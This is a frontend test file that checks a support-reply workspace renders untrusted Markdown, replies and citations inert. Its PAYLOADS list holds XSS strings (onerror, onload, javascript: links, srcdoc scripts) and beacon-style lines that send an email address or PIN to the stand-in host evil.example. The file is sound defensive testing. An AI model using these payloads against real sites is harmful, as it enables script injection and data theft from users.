import { render, screen, waitFor } from '@testing-library/react'
import { expect, test, vi } from 'vitest'
import { MockDb } from '../mocks/db'
import { itemShown, openWorkspace } from '../test/workspace'
import Markdown from './Markdown'
import { RichText } from './RichText'

const PAYLOADS = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '<svg/onload=window.hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<a href="javascript:window.hacked=1">click</a>',
  '[click](javascript:window.hacked=1)',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '![pixel](https://evil.example/track.png?mail=ines@example.com)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<style>body{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=pin></form>',
  '<https://evil.example/phish>',
  '[1]: https://evil.example "t"\n\n[1]',
  'https://evil.example/?q=<b>x</b>',
  '<details open ontoggle=window.hacked=1>',
  '<math><mi xlink:href="javascript:window.hacked=1">x</mi></math>',
  '\u202Egnp.exe https://evil.example',
]

const LIVE =
  'img, script, iframe, svg, a[href], form, input, style, object, embed, link, video, details, math, [onerror], [onload], [src], [href], [style*="url"]'

test.each(PAYLOADS)('Markdown of a source stays inert: %s', (payload) => {
  const { container } = render(<Markdown text={`Before\n\n${payload}\n\nAfter`} />)
  expect(container.querySelectorAll(LIVE)).toHaveLength(0)
  expect(container).toHaveTextContent('Before')
  expect('hacked' in window).toBe(false)
})

test.each(PAYLOADS)('a reply is shown as the text it is: %s', (payload) => {
  const { container } = render(<RichText text={payload} />)
  expect(container.querySelectorAll(LIVE)).toHaveLength(0)
  expect(container.textContent?.replaceAll('evil.example', '')).toContain(
    payload.replaceAll('evil.example', '').slice(0, 12),
  )
})

test('links show their host and cannot be followed', () => {
  const { container } = render(<RichText text="See https://bank.example.evil.test/login now" />)
  expect(screen.queryByRole('link')).toBeNull()
  expect(container).toHaveTextContent('bank.example.evil.test')
})

test('payloads in every field of a draft neither run nor load', async () => {
  const db = new MockDb()
  const all = PAYLOADS.join('\n\n')
  const one = db.suggestions[0]!
  Object.assign(one, {
    reply: all,
    summary: all,
    customer_name: all,
    ticket_subject: `Subject ${all}`,
  })
  one.citations = one.citations.map((source) => ({ ...source, title: all, text: all, quote: all }))
  one.gates = [{ code: 'x', level: 'warn', message: all, spans: PAYLOADS, confirm: true }]
  db.ticket(100).messages[0]!.body = all
  const fetched = vi.spyOn(globalThis, 'fetch')
  const { container, user } = await openWorkspace({ db, path: '/queue?item=500' })
  await itemShown(/^Subject/)
  await screen.findByRole('region', { name: 'Proposed reply' })
  await user.keyboard('1')
  await waitFor(() => expect(screen.getByRole('article')).toBeVisible())
  const untrusted = [
    screen.getByRole('article'),
    screen.getByRole('region', { name: 'Proposed reply' }),
  ]
  for (const zone of untrusted) {
    expect(
      zone.querySelectorAll('img, script, iframe, a[href], form, [onerror], [onload]'),
    ).toHaveLength(0)
  }
  expect(container.querySelector('[src*="evil"], [href*="evil"]')).toBeNull()
  expect('hacked' in window).toBe(false)
  for (const [request] of fetched.mock.calls) expect(String(request)).toMatch(/\/api\/v1\//)
})

test('a doubtful passage is marked in words, not only in colour, and says why where it stands', async () => {
  await openWorkspace({ path: '/queue?item=505' })
  await itemShown('Exchange rate was worse than shown')
  const mark = screen.getByRole('region', { name: 'Proposed reply' }).querySelector('mark')
  expect(mark).toHaveTextContent('Needs your word: 0.5 %')
  expect(mark).toHaveAccessibleDescription('Neither the ticket nor a cited source has “0.5 %”.')
  mark?.focus()
  expect(mark).toHaveFocus()
})

test('a passage that two checks object to is marked once, with both reasons', async () => {
  const db = new MockDb()
  db.suggestions[5]?.gates.push({
    code: 'tone',
    level: 'warn',
    message: 'Sounds hasty.',
    spans: ['0.5 %'],
    confirm: false,
  })
  await openWorkspace({ db, path: '/queue?item=505' })
  await itemShown('Exchange rate was worse than shown')
  const marks = screen.getByRole('region', { name: 'Proposed reply' }).querySelectorAll('mark')
  expect(marks).toHaveLength(1)
  expect(marks[0]).toHaveAccessibleDescription(/has “0.5 %”. Sounds hasty/)
})
